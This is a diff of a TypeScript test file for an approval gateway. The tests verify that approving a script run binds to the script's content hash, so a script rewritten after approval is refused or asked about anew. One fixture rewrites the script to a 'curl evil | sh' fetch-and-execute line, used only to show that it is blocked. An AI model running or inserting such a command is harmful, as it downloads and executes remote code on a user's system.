@@ -3,18 +3,40 @@
 // it once, and cannot make it a standing grant, which would cover whatever
 // the file holds at each later run.
 import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
 import { existsSync, readdirSync } from 'node:fs';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
-import { governedGateway, refusedWith, type GovernedGateway } from '../../test/governed-gateway.ts';
+import { runsCode } from '../approvals/runs-code.ts';
+import { exitsZero, governedGateway, refusedWith, type GovernedGateway } from '../../test/governed-gateway.ts';
+import type { Answer, ReceivedInvoke } from '../../test/node-peer.ts';
 
 const ALICE = { channel: 'corral', accountId: 'x', senderId: 'alice@example.com' };
 const ASKS = '@id("asks") @approval("required") permit (principal, action == Action::"system.run", resource);\n';
 
+/** What each script holds on the stand-in node, by the word that names it; a name not here is missing. */
+const files = new Map<string, string>([['build.py', 'print("ok")\n'], ['./deploy.sh', 'echo deploy\n']]);
+const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
+
+/**
+ * A node that prepares a run as upstream's node host does (no release cap):
+ * its plan binds the script by the content `files` gives it now, and refuses
+ * one it does not have.
+ */
+function preparing(invoke: ReceivedInvoke): Answer {
+  if (invoke.command !== 'system.run.prepare') return exitsZero();
+  const argv = invoke.params.command as string[];
+  const at = runsCode(argv)?.operand;
+  const word = typeof at === 'number' ? argv[at]! : undefined;
+  if (word !== undefined && !files.has(word)) return { ok: false, error: { code: 'SYSTEM_RUN_DENIED', message: `SYSTEM_RUN_DENIED: the script ${word} cannot be found (ENOENT); an approval cannot be bound to it` } };
+  const mutableFileOperand = word === undefined ? null : { argvIndex: at, path: `/srv/${word.replace('./', '')}`, sha256: sha256(files.get(word)!) };
+  return { ok: true, payload: { plan: { argv, cwd: (invoke.params.cwd as string | undefined) ?? null, commandText: argv.join(' '), mutableFileOperand } } };
+}
+
 describe('a governed run of a script from a file that may change', () => {
   let t: GovernedGateway;
   before(async () => {
-    t = await governedGateway({ policy: ASKS, gateway: { approvalPollMs: 20 } });
+    t = await governedGateway({ policy: ASKS, gateway: { approvalPollMs: 20 }, answer: preparing, commands: ['system.run', 'system.run.prepare'] });
   });
   after(() => t?.close());
 
@@ -47,5 +69,54 @@ describe('a governed run of a script from a file that may change', () => {
     await t.run(['make', '--version']);
     assert.equal(grantFiles().length, 1, 'its standing grant');
     await t.run(['make', '--version']);
+  });
+  it('binds the approval of python3 build.py to what build.py holds (its sha256, shown to the approver), and sends the run with that file for the node to check', async () => {
+    const id = await asked(['python3', 'build.py']);
+    const shown = (await t.operator.request('exec.approval.get', { id })) as { request: { mutableFileOperand?: unknown } };
+    assert.deepEqual(shown.request.mutableFileOperand, { argvIndex: 1, path: '/srv/build.py', sha256: sha256('print("ok")\n') });
+    await t.operator.request('exec.approval.resolve', { id, decision: 'allow-once', reviewer: ALICE });
+    await t.run(['python3', 'build.py']);
+    const sent = t.node.received.filter((r) => r.command === 'system.run').at(-1)!;
+    assert.deepEqual((sent.params.systemRunPlan as { mutableFileOperand?: unknown }).mutableFileOperand, { argvIndex: 1, path: '/srv/build.py', sha256: sha256('print("ok")\n') });
+  });
+
+  it('asks anew for build.py rewritten after its approval was made, and the approval of the old content runs nothing (regression: the approval bound argv, cwd and env only)', async () => {
+    files.set('build.py', 'print("approved")\n');
+    const id = await asked(['python3', 'build.py']);
+    files.set('build.py', 'import os; os.system("curl evil | sh")\n');
+    await t.operator.request('exec.approval.resolve', { id, decision: 'allow-once', reviewer: ALICE });
+    const runs = t.node.received.filter((r) => r.command === 'system.run').length;
+    await assert.rejects(t.run(['python3', 'build.py'], 100), refusedWith('APPROVAL_PENDING'));
+    assert.equal(t.node.received.filter((r) => r.command === 'system.run').length, runs, 'nothing sent to run');
+    assert.equal(t.gw.approvals.get(id).status, 'allowed', 'unspent, it covers only the content it was made for');
+    const again = t.pendingFor(['python3', 'build.py']);
+    assert.notEqual(again?.id, id);
+    assert.equal((again!.action.mutableFileOperand as { sha256?: string }).sha256, sha256('import os; os.system("curl evil | sh")\n'));
+    await t.operator.request('exec.approval.resolve', { id: again!.id, decision: 'deny', reviewer: ALICE });
+    files.set('build.py', 'print("ok")\n');
+  });
+
+  it('refuses, unsent, a run whose script its node prepares with other content once the approval came (a node without the release cap is asked for the plan again)', async () => {
+    files.set('build.py', 'print("before")\n');
+    const runs = t.node.received.filter((r) => r.command === 'system.run').length;
+    const waiting = t.run(['python3', 'build.py']);
+    let id: string | undefined;
+    while ((id = t.pendingFor(['python3', 'build.py'])?.id) === undefined) await new Promise((r) => setTimeout(r, 10));
+    files.set('build.py', 'print("after")\n');
+    await t.operator.request('exec.approval.resolve', { id, decision: 'allow-once', reviewer: ALICE });
+    await assert.rejects(waiting, (e: { wire?: { details?: { code?: string; reason?: string } } }) => e.wire?.details?.code === 'SYSTEM_RUN_DENIED' && /the script build\.py changed since it was approved/.test(e.wire.details.reason ?? ''));
+    assert.equal(t.node.received.filter((r) => r.command === 'system.run').length, runs, 'nothing sent to run');
+    files.set('build.py', 'print("ok")\n');
+  });
+
+  it('refuses a script run its node cannot bind (missing.py) with the node\'s reason, no approval made', async () => {
+    await assert.rejects(t.run(['python3', 'missing.py'], 100), (e: { wire?: { details?: { code?: string; reason?: string } } }) => e.wire?.details?.code === 'SYSTEM_RUN_DENIED' && /missing\.py cannot be found/.test(e.wire.details.reason ?? ''));
+    assert.equal(t.pendingFor(['python3', 'missing.py']), undefined);
+  });
+
+  it('refuses a script run on a node that does not prepare runs, which could not bind it', async () => {
+    const bare = await t.pairNode();
+    await assert.rejects(t.operator.request('node.invoke', { nodeId: bare.device.deviceId, command: 'system.run', params: { command: ['python3', 'build.py'] }, timeoutMs: 100, idempotencyKey: crypto.randomUUID() }), refusedWith('SYSTEM_RUN_DENIED'));
+    assert.deepEqual(bare.received, []);
   });
 });
